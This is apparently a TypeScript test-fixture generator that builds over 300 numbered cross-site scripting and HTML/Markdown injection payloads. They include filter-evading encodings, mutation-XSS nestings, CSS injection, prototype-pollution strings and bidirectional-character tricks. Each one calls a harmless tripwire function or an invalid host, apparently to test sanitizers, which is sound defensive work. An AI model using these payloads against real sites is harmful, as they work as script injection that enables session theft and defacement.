// Texts that would run, load or disguise something if any of them were taken for more than text. Made by rules.

/** What every one of them tries to call, with its number. */
export const TRIPWIRE = 'tripwire';
/** Where those that load something would go. */
const ELSEWHERE = 'https://elsewhere.invalid';

type Made = (call: string, n: number) => string;

/** Elements that begin to do something by themselves, and the attribute that says what. */
const LIVELY: readonly (readonly [tag: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style=animation:a', 'onanimationstart'],
  ['p tabindex=0 autofocus', 'onfocusin'],
  ['source src=x', 'onerror'],
  ['frameset', 'onload'],
  ['math href=x', 'onpointerover'],
];

/** The same element, spelled so that a filter may not know it again. */
const SPELLED: readonly ((tag: string, handler: string, call: string) => string)[] = [
  (tag, handler, call) => `<${tag} ${handler}="${call}">`,
  (tag, handler, call) => `<${capitals(tag)} ${capitals(handler)}=${call}>`,
  (tag, handler, call) => `"><${tag}/${handler}='${call}'//`,
  (tag, handler, call) => `<${tag}\n${handler}\t=\n"${call}"`,
  (tag, handler, call) => `&lt;${tag} ${handler}=&quot;${call}&quot;&gt;`,
  (tag, handler, call) => `<${tag} ${handler}="${entities(call)}">`,
  (tag, handler, call) => `</textarea></title></style><${tag} ${handler}="${call}">`,
];

const SCHEMES: readonly string[] = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' \u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'jav&#x09;ascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'blob:http://127.0.0.1/',
  'view-source:javascript:',
  'feed:javascript:',
  'file:///',
  'javascript\u00a0:',
  '//elsewhere.invalid/',
];

/** Places in a text where an address may stand. */
const LINKED: readonly ((address: string) => string)[] = [
  (address) => `[go](${address})`,
  (address) => `![see](${address})`,
  (address) => `<${address}>`,
  (address) => `<a href="${address}">go</a>`,
  (address) => `[go]: ${address}\n\n[go]`,
];

/** Trees that a careless cleaning would turn into others. */
const NESTED: readonly Made[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>go</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<math><mi//xlink:href="javascript:${call}">go</mi></math>`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
  (call) => `<xmp><p title="</xmp><svg/onload=${call}>">`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  (call) => `<base href="${ELSEWHERE}/"><script src=x.js>${call}</script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  (call) => `<button formaction="javascript:${call}">go</button>`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `<portal src="javascript:${call}"></portal>`,
  (call) => `<dialog open onclose="${call}"><form method=dialog><button>x</button></form></dialog>`,
  (_, n) => `<script src="${ELSEWHERE}/${n}.js"></script>`,
  (_, n) => `<img src="${ELSEWHERE}/${n}.png" srcset="${ELSEWHERE}/${n}.2x.png 2x">`,
  (_, n) => `![a picture](${ELSEWHERE}/${n}.png)`,
  (_, n) => `<link rel=preload as=image href="${ELSEWHERE}/${n}">`,
  (_, n) => `<link rel=dns-prefetch href="${ELSEWHERE}">${n}`,
  (_, n) => `<video poster="${ELSEWHERE}/${n}"><source src="${ELSEWHERE}/${n}.mp4"></video>`,
];

const STYLED: readonly Made[] = [
  (_, n) => `<style>@import "${ELSEWHERE}/${n}.css";</style>`,
  (_, n) => `<style>*{background:url(${ELSEWHERE}/${n})}</style>`,
  (_, n) => `<p style="background:url('${ELSEWHERE}/${n}')">x</p>`,
  (_, n) => `";background:url(${ELSEWHERE}/${n});x:"`,
  (_, n) => `red;}body{display:none;--n:${n}`,
  (call) => `<div style="width:expression(${call})">x</div>`,
  (call) => `<div style="-moz-binding:url(data:text/xml,${call})">x</div>`,
  (call) => `<p style="behavior:url(#default#time2)" onend="${call}">x</p>`,
  (_, n) => `<font color="red" style="position:fixed;inset:0;z-index:99999">${n}</font>`,
];

/** Out of an attribute, a string, a template or a comment that somebody might have put the text into. */
const BREAKING_OUT: readonly Made[] = [
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `</script><script>${call}</script>`,
  (call) => `*/${call}/*`,
  (call) => `-->${call}<!--`,
  (call) => `\\";${call}//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `__proto__[innerHTML]=<img/src/onerror=${call}>`,
  (call) => `constructor.prototype.innerHTML=${call}`,
  (call) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`,
  (call) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${call}"}}`,
  (call) => `x" onmouseover="${call}" y="`,
  (call) => `x' onfocus='${call}' autofocus y='`,
  (call) => `x onpointerenter=${call} `,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
];

/** Characters that end, hide or turn around what stands near them. */
const CHARACTERS: readonly Made[] = [
  (call) => `<\u0001script>${call}</script>`,
  (call) => `<img\u0008src=x onerror=${call}>`,
  (call) => `<img src=x onerror\u000b=${call}>`,
  (call) => `<img src=x onerror\u000c=${call}>`,
  (call) => `\ufeff<script>${call}</script>`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `<\u017fcript>${call}</\u017fcript>`,
  (call) => `\u02baonload=${call}\u02ba`,
  (call) => `<i\u0307mg src=x onerror=${call}>`,
  (call) => `\u202e>${[...call].reverse().join('')}=rorreno x=crs gmi<\u202c`,
  ...[...'\u061c\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2067\u2068'].map(
    (control): Made =>
      (call) =>
        `a${control}<b onclick=${call}>b\u202c\u2069`,
  ),
  (call) => `[trusted.example](${ELSEWHERE}/\u202egpj.${call})`,
  (call) => `\`\`\`"><img src=x onerror=${call}>\n<script>${call}</script>\n\`\`\``,
  (call) => `| <img src=x onerror=${call}> | b |\n|---|---|\n| <svg onload=${call}> | 2 |`,
  (call) => `> <img src=x onerror=${call}>\n> 1. <svg onload=${call}>`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `**<b onclick=${call}>**_[x](${ELSEWHERE}/"onmouseover="${call})_`,
  (call) => `[x](${ELSEWHERE}/'onclick='${call})`,
  (call) => `${ELSEWHERE}/"onmouseover="${call}`,
  (call) => `[<img src=x onerror=${call}>](${ELSEWHERE})`,
];

/** At least 300, no two alike; one that ran would say its number. */
export const payloads: readonly string[] = numbered([
  ...LIVELY.flatMap(([tag, handler]) =>
    SPELLED.map(
      (spell): Made =>
        (call) =>
          spell(tag, handler, call),
    ),
  ),
  ...SCHEMES.flatMap((scheme) =>
    LINKED.map(
      (link): Made =>
        (call) =>
          link(scheme + call),
    ),
  ),
  ...NESTED,
  ...STYLED,
  ...BREAKING_OUT,
  ...CHARACTERS,
]);

function numbered(all: readonly Made[]): string[] {
  return all.map((make, n) => make(`${TRIPWIRE}(${n})`, n));
}

/** All of them in texts of so many each, a paragraph to each. */
export function inTexts(each: number): readonly string[] {
  return Array.from({ length: Math.ceil(payloads.length / each) }, (_, i) =>
    payloads.slice(i * each, (i + 1) * each).join('\n\n'),
  );
}

/** Those that fit into a field of so many characters. */
export function fitting(length: number): readonly string[] {
  return payloads.filter((payload) => payload.length <= length);
}

function capitals(text: string): string {
  return [...text].map((char, i) => (i % 2 ? char : char.toUpperCase())).join('');
}

function entities(text: string): string {
  return [...text]
    .map((char, i) => (i % 2 ? `&#${char.charCodeAt(0)}` : `&#x${char.charCodeAt(0).toString(16)};`))
    .join('');
}
